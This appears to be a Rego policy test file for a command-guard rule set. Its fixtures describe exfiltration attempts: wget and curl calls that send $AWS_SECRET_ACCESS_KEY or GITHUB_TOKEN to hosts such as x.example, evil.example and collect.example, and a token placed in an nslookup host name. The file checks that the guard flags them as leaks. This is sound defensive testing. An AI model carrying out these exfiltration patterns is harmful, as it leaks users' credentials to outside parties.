package guard.rules.leak_test

import data.guard.fixture

_asks(name, from, host) := [{"name": from}, {"name": name, "takes": [0], "hosts": [host]}]

test_leak if {
	"net.leak" in fixture.ids(_asks("dig", "cat", fixture.host("", false)))
	"net.leak" in fixture.ids(_asks("curl", "whoami", fixture.host("x.example", false)))
	"net.leak" in fixture.ids([{"name": "wget", "operands": ["https://x.example/?k=$AWS_SECRET_ACCESS_KEY"], "hosts": [fixture.host("x.example", false)]}])
}

test_no_leak if {
	not "net.leak" in fixture.ids(_asks("curl", "cat", fixture.host("x.example", false)))
	not "net.leak" in fixture.ids(_asks("curl", "whoami", {"name": "localhost", "url": "", "scheme": "http", "loopback": true, "push": false}))
	not "net.leak" in fixture.ids([{"name": "wget", "operands": ["https://x.example/$VERSION"], "hosts": [fixture.host("x.example", false)]}])
}

_with_token(variable, host) := [{
	"name": "curl", "hosts": [{"name": host, "url": "", "scheme": "https", "loopback": host == "localhost", "push": false}],
	"opaque": [{"stage": 0, "where": "argument", "reason": sprintf("$%s has no literal value", [variable])}],
}]

test_a_token_for_another_service if {
	"secret.elsewhere" in fixture.ids(_with_token("GITHUB_TOKEN", "evil.example"))
	"secret.elsewhere" in fixture.ids(_with_token("AWS_SECRET_ACCESS_KEY", "collect.example"))
	every pair in [["GITHUB_TOKEN", "api.github.com"], ["GITHUB_TOKEN", "localhost"], ["GITHUB_REF", "x.example"], ["ACME_TOKEN", "x.example"]] {
		not "secret.elsewhere" in fixture.ids(_with_token(pair[0], pair[1]))
	}
}

_asks_for(variable) := [{"name": "nslookup", "opaque": [{"stage": 0, "where": "argument", "reason": sprintf("$%s has no literal value", [variable])}]}]

test_a_token_in_a_host_name if {
	"net.leak" in fixture.ids(_asks_for("GITHUB_TOKEN"))
	not "net.leak" in fixture.ids(_asks_for("HOST"))
}
